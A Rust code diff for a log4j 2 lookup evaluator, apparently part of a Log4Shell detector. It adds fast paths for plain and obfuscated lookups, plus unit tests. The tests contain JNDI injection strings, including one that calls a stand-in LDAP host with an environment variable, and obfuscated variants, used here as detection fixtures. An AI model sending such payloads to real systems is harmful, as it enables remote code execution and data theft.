@@ -100,12 +100,12 @@ thread_local! {
 /// Evaluates `input` as log4j 2 would substitute a logged message.
 pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
     let mut scratch = SCRATCH.take();
-    fill_close_table(input.as_bytes(), &mut scratch.closes, &mut scratch.open);
+    let opens = fill_close_table(input.as_bytes(), &mut scratch.closes, &mut scratch.open);
     let mut state = State {
         limits,
         // Every `${` written in the input may run once; only what evaluation itself creates
         // (decoded base64, escaped `$${`, defaults) is charged against the limit.
-        lookups_left: limits.max_lookups + count_opens(input.as_bytes()),
+        lookups_left: limits.max_lookups + opens,
         exfiltration: Vec::new(),
         jndi: Vec::new(),
         closes: std::mem::take(&mut scratch.closes),
@@ -124,6 +124,75 @@ pub(crate) fn evaluate(input: &str, limits: &Limits) -> Evaluation {
         jndi: state.jndi,
         abort,
     }
+}
+
+/// True when every lookup in `input` is plain: no `$` inside (so no nesting and no escape), no
+/// `:-` default, not escaped by a `$` before it, closed, and either a `jndi` one or one that
+/// resolves to nothing and reads nothing ([`lookup::is_inert`], like `${server.port}`). Log4j
+/// leaves such text as it is, so [`evaluate`] would return it unchanged, without an abort,
+/// with one `jndi` call (without exfiltration) per distinct name that [`plain_jndi_names`]
+/// lists.
+///
+/// Most attacks are this shape once decoded, and so are most harmless templates; checking it
+/// is one pass over the text without the close table, the substituted copy of the text or the
+/// values of lookups.
+pub(crate) fn is_plain(input: &str, limits: &Limits) -> bool {
+    let bytes = input.as_bytes();
+    // `evaluate` stops at this size even when nothing changes.
+    if bytes.len() > limits.max_output {
+        return false;
+    }
+    let mut pos = 0;
+    while let Some(start) = find_open(bytes, pos) {
+        if start > 0 && bytes[start - 1] == b'$' {
+            return false;
+        }
+        let name_start = start + 2;
+        let Some(end) = memchr::memchr2(b'$', b'}', &bytes[name_start..]).map(|i| name_start + i)
+        else {
+            return false;
+        };
+        if bytes[end] == b'$' {
+            return false;
+        }
+        let expression = &bytes[name_start..end];
+        let plain = if is_jndi(expression) {
+            find_default(expression).is_none()
+        } else {
+            find_default(expression).is_none() && lookup::is_inert(&input[name_start..end])
+        };
+        if !plain {
+            return false;
+        }
+        pos = end + 1;
+    }
+    true
+}
+
+/// `jndi:`, in any ASCII case the start of a `jndi` lookup.
+const JNDI_PREFIX: &[u8] = b"jndi:";
+
+/// True when the lookup `expression` (without `${` and `}`) starts with `jndi:` in any ASCII case.
+fn is_jndi(expression: &[u8]) -> bool {
+    expression
+        .get(..JNDI_PREFIX.len())
+        .is_some_and(|prefix| prefix.eq_ignore_ascii_case(JNDI_PREFIX))
+}
+
+/// The names of the `jndi` lookups of text that [`is_plain`] accepts, in order (with repeats).
+pub(crate) fn plain_jndi_names(input: &str) -> impl Iterator<Item = &str> {
+    let bytes = input.as_bytes();
+    let mut pos = 0;
+    std::iter::from_fn(move || {
+        loop {
+            let start = find_open(bytes, pos)?;
+            let end = start + 2 + memchr::memchr(b'}', &bytes[start + 2..])?;
+            pos = end + 1;
+            if is_jndi(&bytes[start + 2..end]) {
+                return Some(&input[start + 2 + JNDI_PREFIX.len()..end]);
+            }
+        }
+    })
 }
 
 /// Substitutes `name` alone (the inside of `${...}`), for naming what is left unresolved.
@@ -163,17 +232,20 @@ fn close_table(bytes: &[u8]) -> Vec<u32> {
 }
 
 /// Writes the [`close_table`] of `bytes` into `closes`, with `open` as its stack; both are
-/// buffers reused from earlier evaluations.
-fn fill_close_table(bytes: &[u8], closes: &mut Vec<u32>, open: &mut Vec<u32>) {
+/// buffers reused from earlier evaluations. Returns the number of `${` (as [`count_opens`]
+/// counts them).
+fn fill_close_table(bytes: &[u8], closes: &mut Vec<u32>, open: &mut Vec<u32>) -> usize {
     closes.clear();
     closes.resize(bytes.len(), UNCLOSED);
     open.clear();
+    let mut opens = 0;
     let mut i = 0;
-    while let Some(offset) = memchr::memchr2(b'$', b'}', &bytes[i..]) {
+    while let Some(offset) = find_dollar_or_close(&bytes[i..]) {
         let at = i + offset;
         if bytes[at] == b'$' {
             if bytes.get(at + 1) == Some(&b'{') {
                 open.push(at as u32);
+                opens += 1;
                 i = at + 2;
             } else {
                 i = at + 1;
@@ -184,6 +256,34 @@ fn fill_close_table(bytes: &[u8], closes: &mut Vec<u32>, open: &mut Vec<u32>) {
             }
             i = at + 1;
         }
+    }
+    opens
+}
+
+/// Below this length a plain loop finds a byte faster than `memchr`, whose setup (choosing
+/// the vector routine, aligning) costs more than the search: the names and values an
+/// evaluation cuts out and searches again and again are mostly a few bytes long.
+const SHORT_TEXT: usize = 32;
+
+/// Index of the first `byte` in `bytes`.
+fn find_byte(byte: u8, bytes: &[u8]) -> Option<usize> {
+    if bytes.len() < SHORT_TEXT {
+        bytes.iter().position(|&b| b == byte)
+    } else {
+        memchr::memchr(byte, bytes)
+    }
+}
+
+/// Index of the first `$` or `}` in `bytes`. Obfuscated payloads are dense with both, so the
+/// gaps between them are short: a plain loop is cheaper than a `memchr2` per gap.
+fn find_dollar_or_close(bytes: &[u8]) -> Option<usize> {
+    let near = &bytes[..bytes.len().min(SHORT_TEXT)];
+    match near.iter().position(|&b| b == b'$' || b == b'}') {
+        Some(at) => Some(at),
+        None if bytes.len() > near.len() => {
+            memchr::memchr2(b'$', b'}', &bytes[near.len()..]).map(|at| near.len() + at)
+        }
+        None => None,
     }
 }
 
@@ -202,7 +302,7 @@ fn find_default(bytes: &[u8]) -> Option<usize> {
 /// every call.
 fn find_pair(bytes: &[u8], from: usize, [first, second]: [u8; 2]) -> Option<usize> {
     let mut at = from;
-    while let Some(offset) = memchr::memchr(first, bytes.get(at..)?) {
+    while let Some(offset) = find_byte(first, bytes.get(at..)?) {
         let found = at + offset;
         if bytes.get(found + 1) == Some(&second) {
             return Some(found);
@@ -213,6 +313,7 @@ fn find_pair(bytes: &[u8], from: usize, [first, second]: [u8; 2]) -> Option<usiz
 }
 
 /// Number of `${` in `bytes`.
+#[cfg(test)]
 fn count_opens(bytes: &[u8]) -> usize {
     let (mut count, mut at) = (0, 0);
     while let Some(open) = find_open(bytes, at) {
@@ -333,7 +434,7 @@ impl State<'_> {
         out: &mut String,
     ) -> Result<bool, Abort> {
         let leaks_before = self.exfiltration.len();
-        if !expression.contains('$') {
+        if find_byte(b'$', expression.as_bytes()).is_none() {
             return self.resolve_into(expression, leaks_before, depth, prior, out);
         }
         // The name is substituted first, in a fresh context, into a reused string.
@@ -372,7 +473,20 @@ impl State<'_> {
             return Err(Abort::Cycle(name.to_string()));
         }
         self.lookups_left = self.lookups_left.checked_sub(1).ok_or(Abort::Lookups)?;
-        let resolved = match lookup::evaluate(name) {
+        // The most common obfuscation, a case change of a few ASCII letters, is written
+        // straight into the text, as `lookup::evaluate` would give it and the general path
+        // below would append it.
+        if depth < self.limits.max_depth
+            && (ascii_case_change_into(name, out) || date_literal_into(name, out))
+        {
+            return Ok(true);
+        }
+        let outcome = if default.is_some() {
+            lookup::evaluate_with_default(name)
+        } else {
+            lookup::evaluate(name)
+        };
+        let resolved = match outcome {
             Outcome::Value(value) => Some(value),
             Outcome::Jndi(jndi_name) => {
                 let mut exfiltration: Vec<Exfiltration> = Vec::new();
@@ -417,6 +531,62 @@ impl State<'_> {
         }
         result.map(|()| true)
     }
+}
+
+/// Appends the value of `name` when it is `lower:KEY` or `upper:KEY` (prefix in any ASCII case)
+/// with an ASCII `KEY` without `${`: the key in ASCII lower or upper case, which is Java's case
+/// mapping for ASCII, and a value that substitutes to itself. `false`, with nothing appended,
+/// for any other name.
+fn ascii_case_change_into(name: &str, out: &mut String) -> bool {
+    const LOWER: &[u8] = b"lower:";
+    const UPPER: &[u8] = b"upper:";
+    let bytes = name.as_bytes();
+    let Some(prefix) = bytes.get(..LOWER.len()) else {
+        return false;
+    };
+    let lower = prefix.eq_ignore_ascii_case(LOWER);
+    if !lower && !prefix.eq_ignore_ascii_case(UPPER) {
+        return false;
+    }
+    let key = &name[LOWER.len()..];
+    if !key.is_ascii() || find_open(key.as_bytes(), 0).is_some() {
+        return false;
+    }
+    let start = out.len();
+    out.push_str(key);
+    let value = &mut out.as_mut_str()[start..];
+    if lower {
+        value.make_ascii_lowercase();
+    } else {
+        value.make_ascii_uppercase();
+    }
+    true
+}
+
+/// Appends the value of `name` when it is `date:'TEXT'` (prefix in any ASCII case) with a
+/// `TEXT` that is not empty and has no quote and no `${`: a date pattern that is one quoted literal formats to the
+/// literal. `false`, with nothing appended, for any other name.
+fn date_literal_into(name: &str, out: &mut String) -> bool {
+    const DATE: &[u8] = b"date:";
+    let bytes = name.as_bytes();
+    if !bytes
+        .get(..DATE.len())
+        .is_some_and(|prefix| prefix.eq_ignore_ascii_case(DATE))
+    {
+        return false;
+    }
+    let Some(literal) = name[DATE.len()..]
+        .strip_prefix('\'')
+        .and_then(|rest| rest.strip_suffix('\''))
+    else {
+        return false;
+    };
+    // `''` is a quote, not an empty literal.
+    if literal.is_empty() || literal.contains('\'') || find_open(literal.as_bytes(), 0).is_some() {
+        return false;
+    }
+    out.push_str(literal);
+    true
 }
 
 #[cfg(test)]
@@ -637,6 +807,150 @@ mod tests {
                         );
                     }
                 }
+            }
+        }
+    }
+
+    #[test]
+    fn plain_jndi_text_evaluates_to_itself() {
+        let mut texts: Vec<String> = [
+            "${jndi:ldap://a.example/x}",
+            "x ${jndi:a} y ${JNDI:b} ${jndi:a}",
+            "$${jndi:x}",
+            "${jndi:x:-y}",
+            "${jndi:a$b}",
+            "${jndi:a",
+            "${lower:j}",
+            "${jndi:ldap://${env:X}}",
+            "plain $5 text",
+            "${server.port} and ${jndi:a} ${HOME} ${hostName} ${env:USER}",
+            "${spring.datasource.url:jdbc:h2:mem:test} ${JNDI:b}",
+            "${lower:x} ${jndi:c}",
+            "${base64:am5kaQ==} ${jndi:d}",
+            "${base64:!!} ${jndi:e} ${x:hostName}",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        texts.extend(
+            crate::hunt::corpus::generate(23, 1000)
+                .into_iter()
+                .map(|line| line.text),
+        );
+        let mut plain = 0;
+        for text in &texts {
+            if !is_plain(text, &Limits::default()) {
+                continue;
+            }
+            plain += 1;
+            let evaluation = eval(text);
+            assert_eq!(evaluation.output, *text);
+            assert_eq!(evaluation.abort, None);
+            let mut names: Vec<&str> = Vec::new();
+            for name in plain_jndi_names(text) {
+                if !names.contains(&name) {
+                    names.push(name);
+                }
+            }
+            let calls: Vec<(&str, usize)> = evaluation
+                .jndi
+                .iter()
+                .map(|call| (call.name.as_str(), call.exfiltration.len()))
+                .collect();
+            let expected: Vec<(&str, usize)> = names.iter().map(|name| (*name, 0)).collect();
+            assert_eq!(calls, expected, "{text:?}");
+        }
+        assert!(plain > 100, "{plain}");
+        assert!(!is_plain(
+            &"${jndi:x}".repeat(9),
+            &Limits {
+                max_output: 80,
+                ..Limits::default()
+            }
+        ));
+    }
+
+    #[test]
+    fn ascii_case_changes_are_the_lookup_values() {
+        for name in [
+            "lower:JNDI",
+            "LOWER:J",
+            "Upper:ndi",
+            "upper:",
+            "lower:${x}",
+            "lower:$ {x}",
+            "upper:\u{131}",
+            "lower:\u{130}",
+            "lowe:x",
+            "lower",
+            "lowerx:y",
+            "date:'j'",
+            "upper:a:b",
+        ] {
+            let mut out = String::from("pre");
+            let appended = ascii_case_change_into(name, &mut out);
+            if appended {
+                let Outcome::Value(value) = lookup::evaluate(name) else {
+                    panic!("{name:?} has a value");
+                };
+                assert_eq!(out, format!("pre{value}"), "{name:?}");
+                assert!(find_open(value.as_bytes(), 0).is_none());
+            } else {
+                assert_eq!(out, "pre", "{name:?}");
+            }
+        }
+        assert!(!ascii_case_change_into("lower:${x}", &mut String::new()));
+        assert!(ascii_case_change_into("UpPeR:x", &mut String::new()));
+    }
+
+    #[test]
+    fn date_literals_are_the_lookup_values() {
+        for name in [
+            "date:'j'",
+            "DATE:'ndi'",
+            "date:''",
+            "date:'",
+            "date:'it''s'",
+            "date:'a'b'",
+            "date:'${x}'",
+            "date:'$ {x}'",
+            "date:j",
+            "date:'j",
+            "date:yyyy",
+            "dat:'j'",
+            "date:'\u{131}'",
+        ] {
+            let mut out = String::from("pre");
+            if date_literal_into(name, &mut out) {
+                let Outcome::Value(value) = lookup::evaluate(name) else {
+                    panic!("{name:?} has a value");
+                };
+                assert_eq!(out, format!("pre{value}"), "{name:?}");
+                assert!(find_open(value.as_bytes(), 0).is_none());
+            } else {
+                assert_eq!(out, "pre", "{name:?}");
+            }
+        }
+        assert!(date_literal_into("date:'j'", &mut String::new()));
+    }
+
+    #[test]
+    fn close_table_counts_every_open() {
+        for text in ["", "$", "${", "$${", "${${}}", "a${b}${c", "}${${{$}{${"] {
+            let (mut closes, mut open) = (Vec::new(), Vec::new());
+            let opens = fill_close_table(text.as_bytes(), &mut closes, &mut open);
+            assert_eq!(opens, count_opens(text.as_bytes()), "{text:?}");
+        }
+        let long = "${x}$ pad }".repeat(40);
+        let (mut closes, mut open) = (Vec::new(), Vec::new());
+        assert_eq!(
+            fill_close_table(long.as_bytes(), &mut closes, &mut open),
+            count_opens(long.as_bytes())
+        );
+        for (start, close) in closes.iter().enumerate() {
+            if long.as_bytes()[start..].starts_with(b"${") {
+                let expected = matching_close(long.as_bytes(), start + 2).map(|at| at as u32);
+                assert_eq!(Some(*close).filter(|&c| c != UNCLOSED), expected, "{start}");
             }
         }
     }
